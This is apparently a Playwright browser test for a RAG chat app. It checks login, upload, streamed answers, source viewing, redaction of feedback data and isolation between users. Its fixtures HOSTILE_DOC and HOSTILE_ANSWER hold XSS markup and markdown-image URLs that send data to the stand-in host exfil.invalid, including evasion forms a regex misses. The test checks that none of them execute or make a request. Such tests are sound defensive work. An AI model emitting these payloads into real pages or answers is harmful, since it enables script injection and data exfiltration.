"""The chat in a real browser (Playwright driving Debian's Chromium, headless) against
`guardrag chat` as a user runs it: log in, upload, ask, watch the stream, read a source, rate
the answer, and see that neither another user's data nor a hostile document gets through.

Screenshots of each step go to tests/artifacts/browser/.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlparse

import pytest

from rag.settings import Settings
from tests.conftest import EXAMPLES, ROOT
from tests.guardrag_processes import guardrag_server, run_cli
from ui.auth import hash_password
from ui.history import HistoryStore, StoredTurn
from ui.render import AnswerView

playwright_api = pytest.importorskip("playwright.sync_api")

CHROMIUM = Path("/usr/bin/chromium")
# Chromium's own background traffic is refused on this network; these flags keep it quiet so
# every request the test sees comes from the page.
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ARTIFACTS = ROOT / "tests" / "artifacts" / "browser"
PASSWORDS = {"alice": "alice-pw-1", "bob": "bob-pw-2"}
HOSTILE_DOC = """# Gadget manual

The gadget warranty lasts seven years from the day of purchase.
<script>window.__pwned = "script"</script>
<img src="x" onerror="window.__pwned = 'onerror'">
![chart](http://exfil.invalid/collect?data=SECRET-1234)
"""
ZEPHYR_DOC = "# Zephyr\n\nThe Zephyr project code name is HERON-42, chosen in March.\n"
EXFIL_HOST = "exfil.invalid"
# CommonMark image forms a regular expression misses (issue 13, item 6): a shortcut reference
# whose definition sits lines away, and brackets nested in the alt text. Each rendered as an
# <img> that Chromium fetched with no click.
HOSTILE_ANSWER = (
    "Seeded: <img src=x onerror=\"window.__pwned='history'\"> "
    f"![x](http://{EXFIL_HOST}/h?d=1) <script>window.__pwned='history-script'</script>\n\n"
    "Shortcut reference: ![s1]\n\n"
    f"Nested brackets: ![a [b] c](http://{EXFIL_HOST}/nested?d=3)\n\n"
    f"[s1]: http://{EXFIL_HOST}/shortcut?d=2\n"
)

# Installed in the page before a question is sent: every DOM change records the newest
# answer's length (when it differs from the last one recorded) and, from the Route and timings
# panel, whether the answer ran (stage progress shown) and then finished (its `total` row; the
# previous answer's table already had one, hence "ran" first).
RECORD_ANSWER_GROWTH = """() => {
  const bots = () => document.querySelectorAll("#chatbot [data-testid='bot']");
  const before = bots().length;
  const lastBefore = before ? bots()[before - 1].innerText.trim() : "";
  const answer = {started: performance.now(), first_ms: null, lengths: [], ran: false,
                  done: false};
  const record = () => {
    const all = bots();
    const text = all.length ? all[all.length - 1].innerText.trim() : "";
    if (text && (all.length > before || text !== lastBefore)) {
      if (answer.first_ms === null) answer.first_ms = performance.now() - answer.started;
      if (answer.lengths.at(-1) !== text.length) answer.lengths.push(text.length);
    }
    const details = document.querySelector("#details")?.innerText || "";
    answer.ran = answer.ran || details.includes("input_guards: ran");
    answer.done = answer.ran && details.includes("total");
  };
  window.__answerObserver?.disconnect();
  window.__answer = answer;
  window.__answerObserver = new MutationObserver(record);
  window.__answerObserver.observe(document.body,
                                  {childList: true, subtree: true, characterData: true});
}"""

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="apt-get install chromium (see .ci/run)"),
]


def _seed_hostile_history(data_dir: Path) -> None:
    """A stored answer holding markup, as a model might have written it."""
    history = HistoryStore(data_dir / "history.sqlite")
    conversation = history.create("alice", "Seeded hostile answer")
    view = AnswerView(request_id="seeded", status="answered", text=HOSTILE_ANSWER)
    history.append(
        "alice",
        conversation,
        [
            StoredTurn("user", "Show me markup"),
            StoredTurn("assistant", HOSTILE_ANSWER, "seeded", view),
        ],
    )


@dataclass(frozen=True)
class Served:
    url: str
    data_dir: Path


@pytest.fixture(scope="module")
def served(provisioned: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    data_dir = tmp_path_factory.mktemp("browser-data")
    users = {
        "alice": {"password_hash": hash_password(PASSWORDS["alice"])},
        "bob": {"password_hash": hash_password(PASSWORDS["bob"])},
    }
    env = {
        **os.environ,
        "GUARDRAG_DATA_DIR": str(data_dir),
        "GUARDRAG_CHAT__USERS": json.dumps(users),
        # The hostile document is flagged at ingest (rightly); fenced instead of dropped, it
        # is still cited, so the page has to show its text safely.
        "GUARDRAG_RETRIEVAL__FLAGGED_CHUNKS": "fence",
        "COLUMNS": "200",
    }
    run_cli(["ingest", str(EXAMPLES)], env)
    _seed_hostile_history(data_dir)
    with guardrag_server("chat", env, data_dir / "chat.log") as url:
        yield Served(url, data_dir)


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if ARTIFACTS.exists():
        shutil.rmtree(ARTIFACTS)
    ARTIFACTS.mkdir(parents=True)
    with playwright_api.sync_playwright() as p:
        launched = p.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        yield launched
        launched.close()


class Visit:
    """One user's browser tab, recording every request the page makes."""

    def __init__(self, browser: object, url: str) -> None:
        self.context = browser.new_context(viewport={"width": 1400, "height": 1000})  # type: ignore[attr-defined]
        self.page = self.context.new_page()
        self.url = url
        self.requests: list[str] = []
        self.page.on("request", lambda r: self.requests.append(r.url))

    def shot(self, name: str) -> None:
        self.page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)

    def login(self, user: str) -> None:
        self.page.goto(self.url)
        self.page.get_by_label("username").fill(user)
        self.page.get_by_label("password").fill(PASSWORDS[user])
        self.page.get_by_role("button", name="Login").click()
        self.page.wait_for_selector("#question textarea", timeout=30_000)
        self.page.wait_for_function(
            "document.querySelector('#signed-in')?.innerText.includes('Signed in')"
        )

    def upload(self, files: list[Path]) -> str:
        self.page.get_by_role("tab", name="Documents").click()
        self.page.set_input_files("#upload input[type=file]", [str(f) for f in files])
        # Ingest reads what the upload holds: wait until the upload has finished ("Uploading
        # N files..." gone) and lists every file (name and extension on separate lines).
        stems = json.dumps([f.stem for f in files])
        self.page.wait_for_function(
            f"""(() => {{
                const shown = document.querySelector('#upload')?.innerText || '';
                return !shown.includes('Uploading') && {stems}.every(s => shown.includes(s));
            }})()""",
            timeout=60_000,
        )
        self.page.click("#ingest")
        self.page.wait_for_function(
            "document.querySelector('#upload-status')?.innerText.includes('Into')",
            timeout=120_000,
        )
        return str(self.page.inner_text("#upload-status"))

    def ask(self, question: str) -> tuple[float, list[int]]:
        """Seconds until the first answer text shows, and the answer's lengths as it grew:
        recorded in the page at every DOM change (a MutationObserver), so no step of the
        stream falls between two samples taken from here."""
        page = self.page
        page.get_by_role("tab", name="Chat").click()
        if not page.locator("#details").count():
            # Route and timings opens once and stays open: it shows the answer's progress.
            page.get_by_text("Route and timings").click()
        page.fill("#question textarea", question)
        page.evaluate(RECORD_ANSWER_GROWTH)
        page.click("#send")
        try:
            page.wait_for_function("window.__answer.done", timeout=180_000)
        finally:
            record = page.evaluate("window.__answer")
            page.evaluate("window.__answerObserver.disconnect()")
        if record["first_ms"] is None:
            self.shot("failed-ask")
        assert record["first_ms"] is not None, f"no answer text appeared for {question!r}"
        return record["first_ms"] / 1000, [int(n) for n in record["lengths"]]

    def outside_requests(self) -> list[str]:
        own = urlparse(self.url).netloc
        return [
            u
            for u in self.requests
            if urlparse(u).scheme in ("http", "https", "ws", "wss") and urlparse(u).netloc != own
        ]

    def pwned(self) -> object:
        return self.page.evaluate("window.__pwned")


def test_a_user_logs_in_uploads_asks_reads_a_source_and_rates_the_answer(
    served: Served, browser: object, tmp_path: Path
) -> None:
    chat_url = served.url
    alice = Visit(browser, chat_url)
    alice.page.goto(chat_url)
    alice.page.wait_for_selector("text=Login")
    alice.shot("01-login")
    alice.login("alice")
    alice.shot("02-signed-in")

    zephyr = tmp_path / "zephyr-notes.md"
    zephyr.write_text(ZEPHYR_DOC)
    hostile = tmp_path / "gadget-manual.md"
    hostile.write_text(HOSTILE_DOC)
    status = alice.upload([zephyr, hostile])
    assert "alice/zephyr-notes.md" in status and "alice/gadget-manual.md" in status
    assert "alice/zephyr-notes.md" in alice.page.inner_text("#documents")
    alice.shot("03-uploaded")

    first_token_s, lengths = alice.ask("What is the Zephyr project code name?")
    alice.shot("04-answered")
    print(f"\nfirst answer text shown after {first_token_s * 1000:.0f} ms; lengths {lengths}")
    # Streaming means part of the answer shows before the rest: a short answer ("The Zephyr
    # project code name is HERON-42.", 12 tokens in 0.8 s) may show in only two steps.
    assert len(lengths) >= 2 and lengths[0] < lengths[-1], (
        f"the answer should stream in pieces, saw lengths {lengths}"
    )
    chips = alice.page.inner_text("#guard-chips")
    assert "PII:" in chips and "injection:" in chips and "Llama Guard: unavailable" in chips
    sources = alice.page.locator("#sources label")
    labels = sources.all_inner_texts()
    assert any("alice/zephyr-notes.md" in label for label in labels), labels

    zephyr_source = sources.filter(has_text="alice/zephyr-notes.md").first
    zephyr_source.click()
    alice.page.wait_for_selector("#passage .passage")
    assert "HERON-42" in alice.page.inner_text("#passage")
    assert "First token" in alice.page.inner_text("#details")
    alice.shot("05-source-open")

    alice.page.locator("#chatbot [data-testid='bot']").last.hover()
    alice.page.locator("#chatbot button[aria-label='Like']").last.click()
    alice.page.wait_for_function(
        "document.querySelector('#feedback-status')?.innerText.includes('recorded')"
    )
    alice.page.fill(
        "#feedback-comment textarea", "Great answer. I am Ada Lovelace, ada.lovelace@example.com"
    )
    alice.page.click("#feedback-send")
    alice.page.wait_for_function(
        "document.querySelector('#feedback-status')?.innerText.includes('Comment stored')"
    )
    alice.shot("06-feedback")
    with sqlite3.connect(served.data_dir / "history.sqlite") as db:
        ((request_id, rating, comment),) = db.execute(
            "SELECT request_id, rating, comment FROM feedback WHERE user = 'alice'"
        ).fetchall()
    assert rating == "up" and "<PERSON_1>" in comment and "<EMAIL_ADDRESS_1>" in comment
    assert "Ada" not in comment and "example.com" not in comment
    audited = [json.loads(line) for line in (served.data_dir / "audit.jsonl").open()]
    assert request_id in {record["request_id"] for record in audited}

    first_token_s, _ = alice.ask("How long does the gadget warranty last?")
    gadget = alice.page.locator("#sources label").filter(has_text="gadget-manual.md")
    assert gadget.count() >= 1, alice.page.locator("#sources label").all_inner_texts()
    gadget.first.click()
    alice.page.wait_for_selector("#passage .passage")
    passage = alice.page.inner_text("#passage")
    assert "<script>" in passage and "onerror" in passage, "hostile markup shows as text"
    alice.shot("07-hostile-document")

    alice.page.locator("#conversations label").filter(has_text="Seeded hostile answer").click()
    alice.page.wait_for_function(
        "document.querySelector('#chatbot')?.innerText.includes('Seeded:')"
    )
    shown = alice.page.locator("#chatbot [data-testid='bot']").last.inner_text()
    assert "<script>" in shown and "image removed" in shown
    alice.page.wait_for_timeout(1000)
    alice.shot("08-hostile-answer")
    assert alice.pwned() is None, f"hostile markup ran: {alice.pwned()}"
    assert alice.page.locator(f"img[src*='{EXFIL_HOST}']").count() == 0
    assert [u for u in alice.requests if urlparse(u).hostname == EXFIL_HOST] == []
    assert alice.page.locator("#chatbot img, #passage img").count() == 0
    assert alice.outside_requests() == [], alice.outside_requests()

    bob = Visit(browser, chat_url)
    bob.login("bob")
    conversations = bob.page.inner_text("#conversations")
    assert "Zephyr" not in conversations and "Seeded" not in conversations
    bob.page.get_by_role("tab", name="Documents").click()
    # The list has loaded once it shows the shared documents; then alice's must be absent.
    bob.page.wait_for_function(
        "document.querySelector('#documents')?.innerText.includes('examples/faq.md')"
    )
    assert "alice/" not in bob.page.inner_text("#documents")
    bob.ask("What is the Zephyr project code name?")
    bob_sources = bob.page.locator("#sources label")
    assert bob_sources.count() >= 1, "bob's answer cites passages he can open"
    assert not any("alice/" in label for label in bob_sources.all_inner_texts())
    assert "HERON-42" not in bob.page.locator("#chatbot [data-testid='bot']").last.inner_text()
    # He opens what he was given: the passage shows, and alice's code name is not in it.
    bob_sources.first.click()
    bob.page.wait_for_selector("#passage .passage")
    opened = bob.page.inner_text("#passage")
    assert opened.strip() and "HERON-42" not in opened
    bob.shot("09-other-user")
    assert bob.outside_requests() == [], bob.outside_requests()
    assert bob.page.locator("#signed-in").inner_text().startswith("Signed in as bob")
